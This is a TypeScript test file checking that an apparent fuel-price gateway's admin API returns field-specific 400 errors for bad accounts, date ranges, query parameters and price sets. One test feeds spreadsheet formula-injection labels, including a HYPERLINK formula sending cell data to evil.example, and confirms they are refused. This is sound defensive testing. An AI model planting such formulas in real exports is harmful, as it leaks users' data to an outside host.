import t from 'tap';
import { adminCall } from '../helpers/admin.js';
import { startGateway } from '../helpers/gateway.js';
import { priceSet } from '../helpers/prices.js';
import { rawRequest } from '../helpers/raw.js';

// Each admin 400 and the field(s) its problems must name.
const CASES: Array<[string, string, string, unknown, RegExp[]]> = [
  ['an unknown plan alone', 'POST', '/admin/accounts', { plan: 'gold' }, [/^plan: .*gold/]],
  ['an unknown plan and a bad limit', 'POST', '/admin/accounts', { plan: 'gold', limit: -1 }, [/^plan: /, /^limit: /]],
  ['a label starting with NUL', 'POST', '/admin/accounts', { plan: 'starter', label: '\u0000=1+1' }, [/^label: /]],
  ['a label with DEL inside', 'POST', '/admin/accounts', { plan: 'starter', label: 'Acme\u007f' }, [/^label: /]],
  ['a label with a control character', 'PATCH', '/admin/accounts/ID', { label: 'a\u001b[31m' }, [/^label: /]],
  ['one bad field', 'POST', '/admin/accounts', { plan: 'starter', limit: 0 }, [/^limit: /]],
  ['a plan without a default limit', 'POST', '/admin/accounts', { plan: 'enterprise' }, [/^limit: /]],
  [
    'an unknown plan in a patch, with a bad limit',
    'PATCH',
    '/admin/accounts/ID',
    { plan: 'gold', limit: -1 },
    [/^plan: /, /^limit: /],
  ],
  ['an empty patch', 'PATCH', '/admin/accounts/ID', {}, [/status, plan, limit/]],
  ['an unknown listing parameter', 'GET', '/admin/accounts?colour=red', undefined, [/colour/]],
  ['a bad export range', 'GET', '/admin/usage?from=2026-02-30&to=2026-03-01', undefined, [/^from: /]],
  ['an export range backwards', 'GET', '/admin/usage?from=2026-03-02&to=2026-03-01', undefined, [/^to: /]],
  ['an export without dates', 'GET', '/admin/usage/periods', undefined, [/^from: /, /^to: /]],
  ['a bad cancel date', 'DELETE', '/admin/prices/2026-13-01', undefined, [/^date: /]],
  ['a purge path twice', 'DELETE', '/admin/cache?path=/a&path=/b', undefined, [/^path: /]],
];

t.test('every admin 400 carries problems naming each field and what is wrong with it', async (t) => {
  const gw = await startGateway(t);
  const acct = await adminCall(gw, 'POST', '/admin/accounts', { plan: 'starter' });
  const id = acct.body.account.id as string;
  for (const [what, method, path, body, expected] of CASES) {
    const r = await adminCall(gw, method, path.replace('ID', id), body);
    t.equal(r.status, 400, `${what}: 400`);
    t.ok(Array.isArray(r.body.problems), `${what}: problems is there (${JSON.stringify(r.body)})`);
    t.equal(r.body.problems?.length, expected.length, `${what}: one problem per field`);
    for (const re of expected)
      t.ok(
        (r.body.problems ?? []).some((p: string) => re.test(p)),
        `${what}: a problem matches ${re} (${JSON.stringify(r.body.problems)})`,
      );
  }
});

t.test('a body that is not JSON and a doubled Host header are 400s with problems too', async (t) => {
  const gw = await startGateway(t);
  const bad = await adminCall(gw, 'POST', '/admin/accounts', undefined, undefined, '{"plan":');
  t.equal(bad.status, 400);
  t.match(bad.body.problems, [/^\(body\): /]);
  const port = gw.app.adminAddress.port;
  const raw = await rawRequest(
    port,
    `GET /admin/prices HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`,
  );
  t.match(raw, /^HTTP\/1\.1 400 /);
  t.match(JSON.parse(raw.slice(raw.indexOf('\r\n\r\n') + 4)).problems, [/^Host: /]);
});

t.test('public endpoints keep the two-field error body', async (t) => {
  const gw = await startGateway(t);
  const acct = await adminCall(gw, 'POST', '/admin/accounts', { plan: 'starter' });
  const key = acct.body.api_key as string;
  const r = await gw.get(`/fuel-api/api/historical.php?from=2025-05&to=2025-01&api_key=${key}`);
  t.equal(r.status, 400);
  t.same(await r.json(), { success: false, message: 'Invalid date range.' });
});

t.test('a label with a control character is refused, naming label, and nothing changes', async (t) => {
  const gw = await startGateway(t, { demo_accounts: false });
  const made = await adminCall(gw, 'POST', '/admin/accounts', { plan: 'starter', label: 'Acme' });
  const id = made.body.account.id as string;
  for (const label of ['\u0000=HYPERLINK("http://evil.example/?d="&A1,"Click")', '\t=1+1', 'a\nb', '\u007f']) {
    const create = await adminCall(gw, 'POST', '/admin/accounts', { plan: 'starter', label });
    t.equal(create.status, 400, `create ${JSON.stringify(label)}: 400`);
    t.match(create.body.message, /label/);
    const patch = await adminCall(gw, 'PATCH', `/admin/accounts/${id}`, { label });
    t.equal(patch.status, 400, `patch ${JSON.stringify(label)}: 400`);
    t.match(patch.body.problems, [/^label: /]);
  }
  const list = await adminCall(gw, 'GET', '/admin/accounts');
  t.same(
    list.body.accounts.map((a: { label: string }) => a.label),
    ['Acme'],
    'no account was made and the label is unchanged',
  );
});

t.test(
  'a price set, a history and neither are each refused as PRICE_SET_INVALID, naming the fields of their own shape',
  async (t) => {
    const gw = await startGateway(t);
    const good = priceSet('2030-01-01', '25.00');
    const cases: Array<[string, unknown, RegExp[]]> = [
      ['a set with a bad price', { ...good, coastal: { ...good.coastal, petrol_95: -1 } }, [/^coastal\.petrol_95: /]],
      ['a history with one bad set', [good, { ...good, effective_date: '2030-02-30' }], [/^1\.effective_date: /]],
      ['a history with a date twice', [good, good], [/^\(document\): effective_date 2030-01-01 appears twice$/]],
      ['an empty history', [], [/^\(document\): expected at least one price set$/]],
      ['neither a set nor a history', 'prices', [/^\(document\): .*expected object/]],
    ];
    for (const [what, body, expected] of cases) {
      const r = await adminCall(gw, 'PUT', '/admin/prices', body);
      t.equal(r.status, 400, what);
      t.equal(r.body.code, 'PRICE_SET_INVALID', what);
      t.equal(r.body.problems?.length, expected.length, `${what}: ${JSON.stringify(r.body.problems)}`);
      for (const [i, re] of expected.entries()) t.match(r.body.problems?.[i], re, what);
    }
    t.equal((await adminCall(gw, 'GET', '/admin/prices')).body.scheduled.length, 0, 'nothing was stored');
  },
);

t.test(
  "a usage export's bad range is the configured message with each field's problem, a bad option names itself",
  async (t) => {
    const gw = await startGateway(t);
    const range = await adminCall(
      gw,
      'GET',
      '/admin/usage?from=2026-03-01&from=2026-03-02&to=2026-03-01&format=csv&format=json',
    );
    t.equal(range.status, 400);
    t.equal(range.body.message, 'Invalid date range.');
    t.same(range.body.problems, ['from: expected one date YYYY-MM-DD, given once', 'format: given more than once']);
    const format = await adminCall(
      gw,
      'GET',
      '/admin/usage/periods?from=2026-03-01&to=2026-03-01&format=xml&colour=red',
    );
    t.equal(format.status, 400);
    t.match(format.body.problems, [/^format: /, /^colour: unknown field or parameter$/]);
    t.equal(format.body.message, format.body.problems.join('; '));
  },
);
